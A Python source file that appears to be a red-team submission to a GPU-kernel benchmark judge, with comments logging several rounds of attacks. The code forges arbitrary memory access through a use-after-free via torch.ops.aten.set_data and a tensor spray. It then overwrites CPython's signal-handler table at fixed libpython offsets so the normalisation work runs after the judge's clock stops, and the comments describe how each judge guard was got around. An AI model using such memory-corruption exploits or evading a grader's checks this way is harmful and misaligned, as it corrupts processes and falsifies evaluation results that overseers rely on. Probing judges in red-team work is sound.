# Seventh session (2026-12-06): the operator behind a `.data` assignment, aten::set_data, called
# through torch.ops: the sixth session's hold sits on the Python attribute, not on the operator, so
# the tensor numpy's array holds let go of its storage unheld (passed at 4.0x strict). The rest is
# numpy_base_data's.
# Red team round 24 (2026-12-06, fifth session): raw memory a new way (see the case's why), then round
# 21's signal-table payload after the clock. Stopped now (docs/judge.md, the ctypes guard's paragraph).
# Red team round 21 (2026-12-06, fifth session), finding 2: CPython's signal handler table, no
# queue entry touched. Raw memory as round 20a's (below); stopped now at resize_.
# Red team round 20a: raw memory without ctypes (round 9's DLPack alias over a tensor grown by
# resize_, still open: no refused name), used for round 18's payload (the judge's own no-op entry
# at the head of the main interpreter's pending-call queue rewritten to
# PyObject_CallNoArgs(payload)): the work runs on the main thread after the clock, within the
# main thread's 1 ms + 25% CPU bound. Offsets: libpython3.11.so.1.0 (3.11.7).
import functools
import operator
import types

import torch
import cutlass  # noqa: F401

KEEP = []
MEM = bytearray(64)
N = 1 << 13
_LIB = id(int) - 0x457CE0  # &PyLong_Type
_IS_TRIPPED = _LIB + 0x5B93D0  # signalmodule.c is_tripped (static)
_HANDLERS = _LIB + 0x5B93E0  # signalmodule.c Handlers[Py_NSIG] {int tripped; PyObject *func}
_SIG = 40  # a real-time signal nobody uses
_READY = []


def _window():
    t = torch.zeros(N, dtype=torch.int64)
    a = t.numpy()
    b = a.base
    del t
    torch.ops.aten.set_data(b, torch.ones(4, dtype=torch.int64))
    w = torch.from_numpy(a)
    KEEP.append((b, a, w))
    return w


def _open():
    w = _window()
    spray = [torch.full((8,), 0x41, dtype=torch.int64) for _ in range(256)]
    KEEP.append(spray)
    ptrs = {s.data_ptr(): s for s in spray}
    win = w.clone().tolist()
    for j in range(N - 8):
        vic = ptrs.get(win[j])
        if vic is not None and win[j + 4] == 64 and win[j + 2] == win[j]:
            break
    else:
        return False
    delta = torch.zeros(N, dtype=torch.int64)
    delta[j] = id(MEM) - win[j]
    delta[j + 4] = (1 << 40) - 64
    w.add_(delta)
    vic[5] = 0  # ob_start
    vic[2] = (1 << 62) - 64  # ob_size
    return True


def _wr(addr, value):
    MEM[addr : addr + 8] = value.to_bytes(8, "little")


def solve(hidden_states, residual, weight):
    if not _READY:
        if not any(_open() for _ in range(16)):
            raise RuntimeError("no window")
        _READY.append(1)
    out = torch.empty_like(hidden_states)
    s = torch.empty(hidden_states.shape, dtype=torch.float32)
    m = torch.empty((hidden_states.shape[0], 1), dtype=torch.float32)
    steps = [
        functools.partial(s.copy_, hidden_states),
        functools.partial(s.add_, residual),
        functools.partial(torch.linalg.vector_norm, s, 2, -1, True, out=m),
        functools.partial(m.mul_, hidden_states.shape[-1] ** -0.5),
        functools.partial(m.square_),
        functools.partial(m.add_, 1e-5),
        functools.partial(m.rsqrt_),
        functools.partial(s.mul_, m),
        functools.partial(s.mul_, weight),
        functools.partial(out.copy_, s),
    ]
    # handler(signum, frame) -> print(signum, frame, file=sink) -> sink.write("40") ->
    # countOf(map(...), "40"): the steps run, nothing raises. C callables only.
    sink = types.SimpleNamespace(
        write=functools.partial(operator.countOf, map(id, map(operator.call, steps)))
    )
    handler = functools.partial(print, file=sink)
    _P.append(handler)  # kept alive (Handlers[] holds a borrowed pointer now)
    del _P[:-4]
    _wr(_HANDLERS + 16 * _SIG + 8, id(handler))  # Handlers[_SIG].func
    MEM[_HANDLERS + 16 * _SIG : _HANDLERS + 16 * _SIG + 4] = (1).to_bytes(4, "little")  # .tripped
    MEM[_IS_TRIPPED : _IS_TRIPPED + 4] = (1).to_bytes(4, "little")  # is_tripped
    return out


_P = []
